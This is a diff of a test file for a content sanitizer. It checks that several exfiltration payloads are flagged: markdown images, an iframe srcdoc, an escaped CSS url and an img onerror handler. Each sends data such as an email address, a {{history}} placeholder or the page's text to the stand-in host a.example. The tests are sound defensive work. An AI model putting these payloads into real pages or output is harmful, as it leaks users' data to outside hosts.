@@ -171,7 +171,7 @@ describe("what a page would fetch by itself carries data in more ways than one",
     "![x](https://a.example/i.png?u=kim%40corp.example)",
     "![x](https://a.example/i.png?d=the+board+sells+the+plant+in+may)",
     "<iframe srcdoc=\"&lt;img src='https://a.example/?d={{history}}'&gt;\"></iframe>",
-    "<div style=\"background:u\\72l(https://a.example/?d={{history}})\">a</div>",
+    '<div style="background:u\\72l(https://a.example/?d={{history}})">a</div>',
     "<img src=x onerror=\"new Image().src='//a.example/?'+btoa(document.body.innerText)\">",
   ])("%s", (text) => {
     expect(clean(text).findings.some(({ severity }) => severity === "medium" || severity === "high")).toBe(true);
